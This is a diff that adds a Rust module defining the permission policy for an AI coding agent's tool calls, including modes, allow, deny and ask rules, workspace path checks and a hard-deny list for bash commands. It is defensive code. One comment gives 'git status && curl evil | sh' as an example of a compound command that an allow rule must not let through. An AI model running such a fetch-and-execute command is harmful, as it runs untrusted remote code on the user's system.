@@ -1,0 +1,433 @@
+//! [`PermissionPolicy`]: the mode, the rules and the workspace, and [`PermissionPolicy::decide`].
+
+use std::path::{Path, PathBuf};
+use std::pin::Pin;
+use std::sync::{Arc, PoisonError, RwLock};
+
+use super::bash::{CommandClass, classify_command, write_targets};
+use super::rule::{Rule, RuleKind, RuleSource};
+use super::shell::split_commands;
+use super::{Error, PermissionMode, load_permissions_file, resolve_path};
+use crate::config::PermissionsConfig;
+use crate::tools::{PermissionSubject, Workspace};
+
+/// The outcome of a permission check.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Decision {
+    Allow,
+    Deny { reason: String },
+    Ask { reason: String },
+}
+
+impl Decision {
+    /// For callers where nobody can be asked (run, cron, always-on, mcp serve): `Ask` becomes `Deny`
+    /// with a message that says how to allow the call next time.
+    pub fn finalize_unattended(self) -> Decision {
+        match self {
+            Decision::Ask { reason } => Decision::Deny {
+                reason: format!(
+                    "{reason}. This needs approval, but nobody can be asked in this session, so it \
+                     was denied. To allow it, pass --allow RULE (e.g. --allow 'bash:make *'), add \
+                     the rule to tools.permissions.allow, or use --permission-mode full"
+                ),
+            },
+            other => other,
+        }
+    }
+}
+
+/// A call to check.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct PermissionRequest {
+    pub tool: String,
+    /// Whether this call (with its input) only reads; see `Tool::is_read_only_call`.
+    pub is_read_only: bool,
+    pub subject: PermissionSubject,
+}
+
+/// The future an [`Approver`] returns: `true` allows the call.
+pub type ApproverFuture<'a> = Pin<Box<dyn Future<Output = bool> + Send + 'a>>;
+
+/// Someone who can answer an `Ask` (the `chat` prompt). Absent in unattended sessions.
+pub trait Approver: Send + Sync {
+    fn approve<'a>(&'a self, request: &'a PermissionRequest, reason: &'a str)
+    -> ApproverFuture<'a>;
+}
+
+/// Where a policy's settings come from, lowest precedence first for the mode: config, then the flag.
+/// Rules from every source are combined; deny beats allow wherever a rule came from.
+#[derive(Debug, Clone, Copy)]
+pub struct PolicySources<'a> {
+    /// `--permission-mode`; wins over `config.mode`.
+    pub mode_flag: Option<PermissionMode>,
+    /// `tools.permissions` from the merged config.
+    pub config: &'a PermissionsConfig,
+    /// `<home>/permissions.json`; a missing file means no rules.
+    pub permissions_file: Option<&'a Path>,
+    /// `--allow RULE` and `--deny RULE`.
+    pub allow_flags: &'a [String],
+    pub deny_flags: &'a [String],
+}
+
+#[derive(Debug)]
+pub struct PermissionPolicy {
+    mode: PermissionMode,
+    /// Rules from every source plus session grants. Only ever locked briefly, never across await.
+    rules: RwLock<Vec<Rule>>,
+    workspace: Arc<Workspace>,
+    /// Places a shell command may write to in `workspace-write` besides the workspace: temp dirs
+    /// and the harmless devices.
+    scratch: Vec<PathBuf>,
+}
+
+impl PermissionPolicy {
+    /// A policy with no rules.
+    pub fn new(mode: PermissionMode, workspace: Workspace) -> PermissionPolicy {
+        let mut scratch: Vec<PathBuf> = [
+            "/tmp",
+            "/var/tmp",
+            "/dev/null",
+            "/dev/stdout",
+            "/dev/stderr",
+        ]
+        .iter()
+        .map(PathBuf::from)
+        .chain([std::env::temp_dir()])
+        .collect();
+        scratch.extend(
+            scratch
+                .iter()
+                .filter_map(|p| p.canonicalize().ok())
+                .collect::<Vec<_>>(),
+        );
+        PermissionPolicy {
+            mode,
+            rules: RwLock::new(Vec::new()),
+            workspace: Arc::new(workspace),
+            scratch,
+        }
+    }
+
+    /// Builds the policy from config, permissions.json and flags.
+    pub fn from_sources(
+        workspace: Workspace,
+        sources: PolicySources<'_>,
+    ) -> Result<PermissionPolicy, Error> {
+        let mode = match (sources.mode_flag, &sources.config.mode) {
+            (Some(mode), _) => mode,
+            (None, Some(text)) => PermissionMode::parse(text, "config tools.permissions.mode")?,
+            (None, None) => PermissionMode::default(),
+        };
+        let mut policy = PermissionPolicy::new(mode, workspace);
+        let config = sources.config;
+        for (texts, kind) in [
+            (&config.allow, RuleKind::Allow),
+            (&config.deny, RuleKind::Deny),
+            (&config.ask, RuleKind::Ask),
+        ] {
+            for text in texts {
+                policy.add_rule(text, kind, RuleSource::Config)?;
+            }
+        }
+        if let Some(path) = sources.permissions_file {
+            let file = load_permissions_file(path)?;
+            for text in &file.allowed_tools {
+                policy.add_rule(text, RuleKind::Allow, RuleSource::PermissionsFile)?;
+            }
+            for text in &file.disallowed_tools {
+                policy.add_rule(text, RuleKind::Deny, RuleSource::PermissionsFile)?;
+            }
+        }
+        for text in sources.allow_flags {
+            policy.add_rule(text, RuleKind::Allow, RuleSource::Flag)?;
+        }
+        for text in sources.deny_flags {
+            policy.add_rule(text, RuleKind::Deny, RuleSource::Flag)?;
+        }
+        Ok(policy)
+    }
+
+    /// Adds one rule.
+    pub fn add_rule(
+        &mut self,
+        text: &str,
+        kind: RuleKind,
+        source: RuleSource,
+    ) -> Result<(), Error> {
+        let rule = Rule::parse(text, kind, source, self.workspace.root())?;
+        self.rules
+            .get_mut()
+            .unwrap_or_else(PoisonError::into_inner)
+            .push(rule);
+        Ok(())
+    }
+
+    /// Adds an allow rule for the rest of the session ("allow and remember" in `chat`). Takes
+    /// `&self` so it works on the policy shared by a running session.
+    pub fn grant(&self, text: &str) -> Result<(), Error> {
+        let rule = Rule::parse(
+            text,
+            RuleKind::Allow,
+            RuleSource::Session,
+            self.workspace.root(),
+        )?;
+        self.rules
+            .write()
+            .unwrap_or_else(PoisonError::into_inner)
+            .push(rule);
+        Ok(())
+    }
+
+    pub fn mode(&self) -> PermissionMode {
+        self.mode
+    }
+
+    /// A snapshot of the rules, in the order they were added.
+    pub fn rules(&self) -> Vec<Rule> {
+        self.rules
+            .read()
+            .unwrap_or_else(PoisonError::into_inner)
+            .clone()
+    }
+
+    pub fn workspace(&self) -> &Arc<Workspace> {
+        &self.workspace
+    }
+
+    /// Decides whether a call may run. First match wins:
+    /// 1. a bash command on the hard-deny list → Deny, in every mode, whatever the rules say;
+    /// 2. a deny rule → Deny;
+    /// 3. `read-only` mode and a call that is not read-only → Deny (allow rules do not lift it);
+    /// 4. an ask rule → Ask;
+    /// 5. an allow rule → Allow (for a compound command, every part must be allowed by some rule;
+    ///    for a file tool, a rule without a pattern covers only paths inside the workspace);
+    /// 6. the mode: `full` → Allow; else a path inside the workspace → Allow (a write under `.git/`
+    ///    → Ask), outside → Ask; a dangerous command → Ask; any other command → Allow; another tool
+    ///    → Allow if read-only, else Ask.
+    pub fn decide(&self, request: &PermissionRequest) -> Decision {
+        let tool = request.tool.as_str();
+        let subject = Subject::new(&request.subject, self.workspace.root());
+        if let Subject::Command {
+            class: CommandClass::HardDeny { reason },
+            ..
+        } = &subject
+        {
+            return Decision::Deny {
+                reason: format!(
+                    "blocked: {reason}. This is on pilotdeck's hard-deny list, which no permission \
+                     mode or rule lifts; do not retry it"
+                ),
+            };
+        }
+        if let Some(rule) = self.find(RuleKind::Deny, tool, &subject) {
+            return Decision::Deny {
+                reason: format!(
+                    "`{tool}` {} is denied by the rule {rule}",
+                    subject.describe()
+                ),
+            };
+        }
+        let is_read_only = request.is_read_only
+            && !matches!(&subject, Subject::Path { is_write: true, .. })
+            && !matches!(&subject, Subject::Command { class, .. } if *class != CommandClass::ReadOnly);
+        if self.mode == PermissionMode::ReadOnly && !is_read_only {
+            return Decision::Deny {
+                reason: format!(
+                    "`{tool}` {} is not allowed in read-only mode, which runs only read tools and \
+                     read-only commands; rerun with --permission-mode workspace-write to allow changes",
+                    subject.describe()
+                ),
+            };
+        }
+        if let Some(rule) = self.find(RuleKind::Ask, tool, &subject) {
+            return Decision::Ask {
+                reason: format!(
+                    "`{tool}` {} needs approval by the rule {rule}",
+                    subject.describe()
+                ),
+            };
+        }
+        if self.find(RuleKind::Allow, tool, &subject).is_some() || self.mode == PermissionMode::Full
+        {
+            return Decision::Allow;
+        }
+        self.mode_default(tool, &subject, is_read_only)
+    }
+
+    fn mode_default(&self, tool: &str, subject: &Subject, is_read_only: bool) -> Decision {
+        match subject {
+            Subject::Path { resolved, is_write } => {
+                let Some(root) = self.workspace.roots().find(|r| resolved.starts_with(r)) else {
+                    return Decision::Ask {
+                        reason: format!(
+                            "`{tool}` on `{}` is outside the project `{}` and the --add-dir \
+                             directories",
+                            resolved.display(),
+                            self.workspace.root().display()
+                        ),
+                    };
+                };
+                let in_git = resolved
+                    .strip_prefix(root)
+                    .ok()
+                    .and_then(|rel| rel.components().next())
+                    .is_some_and(|c| c.as_os_str() == ".git");
+                if *is_write && in_git {
+                    return Decision::Ask {
+                        reason: format!(
+                            "`{tool}` writes inside git's own directory (`{}`)",
+                            resolved.display()
+                        ),
+                    };
+                }
+                Decision::Allow
+            }
+            Subject::Command {
+                class: CommandClass::Dangerous { reason },
+                ..
+            } => Decision::Ask {
+                reason: format!("{reason}, which needs approval outside --permission-mode full"),
+            },
+            Subject::Command {
+                line,
+                class: CommandClass::Normal,
+                ..
+            } => match self.outside_write(line) {
+                Some(path) => Decision::Ask {
+                    reason: format!(
+                        "`{line}` may write to `{}`, outside the project `{}` and the --add-dir \
+                         directories",
+                        path.display(),
+                        self.workspace.root().display()
+                    ),
+                },
+                None => Decision::Allow,
+            },
+            Subject::Command { .. } => Decision::Allow,
+            Subject::Other if is_read_only => Decision::Allow,
+            Subject::Other => Decision::Ask {
+                reason: format!(
+                    "`{tool}` is not marked read-only, so it needs approval outside \
+                     --permission-mode full"
+                ),
+            },
+        }
+    }
+
+    /// The first path a shell command may write (or `cd` into) outside the workspace and scratch
+    /// dirs. Only paths the command names explicitly can be seen; relative ones stay in the project.
+    fn outside_write(&self, line: &str) -> Option<PathBuf> {
+        let home = crate::home::user_home();
+        write_targets(line).into_iter().find_map(|target| {
+            let target = match (
+                &home,
+                target
+                    .strip_prefix("$HOME")
+                    .or(target.strip_prefix("${HOME}")),
+            ) {
+                (Some(home), Some(rest)) => format!("{}{rest}", home.display()),
+                _ => target,
+            };
+            let resolved = resolve_path(self.workspace.root(), Path::new(&target));
+            let inside = self.workspace.contains(&resolved)
+                || self.scratch.iter().any(|s| resolved.starts_with(s));
+            (!inside).then_some(resolved)
+        })
+    }
+
+    /// The first rule of `kind` matching the call, described for a message.
+    fn find(&self, kind: RuleKind, tool: &str, subject: &Subject) -> Option<String> {
+        let all = self.rules.read().unwrap_or_else(PoisonError::into_inner);
+        self.find_in(&all, kind, tool, subject)
+            .map(ToString::to_string)
+    }
+
+    fn find_in<'r>(
+        &self,
+        all: &'r [Rule],
+        kind: RuleKind,
+        tool: &str,
+        subject: &Subject,
+    ) -> Option<&'r Rule> {
+        let mut rules = all
+            .iter()
+            .filter(|r| r.kind == kind && r.matches_tool(tool));
+        match subject {
+            // A bare allow (`Write`, `read_file`) only covers the workspace, as in PilotDeck: going
+            // outside needs a rule that names the path.
+            Subject::Path { resolved, .. } => rules.find(|r| {
+                r.matches_path(tool, resolved)
+                    && (kind != RuleKind::Allow
+                        || r.has_pattern()
+                        || self.workspace.contains(resolved))
+            }),
+            Subject::Other => rules.find(|r| r.matches_plain(tool)),
+            Subject::Command { line, segments, .. } => {
+                let rules: Vec<&Rule> = rules.collect();
+                if let Some(rule) = rules.iter().find(|r| !r.has_pattern()) {
+                    return Some(rule);
+                }
+                let part_matches = |r: &&Rule, s: &String| r.matches_command(tool, s);
+                if kind == RuleKind::Allow {
+                    // Every part of a compound command must be allowed, so `git *` does not let
+                    // `git status && curl evil | sh` through.
+                    if segments.len() <= 1
+                        && let Some(rule) = rules.iter().find(|r| r.matches_command(tool, line))
+                    {
+                        return Some(rule);
+                    }
+                    let all = !segments.is_empty()
+                        && segments
+                            .iter()
+                            .all(|s| rules.iter().any(|r| part_matches(r, s)));
+                    return if all { rules.first().copied() } else { None };
+                }
+                rules.into_iter().find(|r| {
+                    r.matches_command(tool, line) || segments.iter().any(|s| part_matches(r, s))
+                })
+            }
+        }
+    }
+}
+
+/// A request's subject, resolved once.
+enum Subject {
+    Path {
+        resolved: PathBuf,
+        is_write: bool,
+    },
+    Command {
+        line: String,
+        segments: Vec<String>,
+        class: CommandClass,
+    },
+    Other,
+}
+
+impl Subject {
+    fn new(subject: &PermissionSubject, root: &Path) -> Subject {
+        match subject {
+            PermissionSubject::Path { path, is_write } => Subject::Path {
+                resolved: resolve_path(root, path),
+                is_write: *is_write,
+            },
+            PermissionSubject::Command(line) => Subject::Command {
+                line: line.trim().to_owned(),
+                segments: split_commands(line)
+                    .into_iter()
+                    .map(|w| w.join(" "))
+                    .collect(),
+                class: classify_command(line),
+            },
+            PermissionSubject::Other => Subject::Other,
+        }
+    }
+
+    fn describe(&self) -> String {
+        match self {
+            Subject::Path { resolved, .. } => format!("on `{}`", resolved.display()),
+            Subject::Command { line, .. } => format!("running `{line}`"),
+            Subject::Other => "call".to_owned(),
+        }
+    }
+}
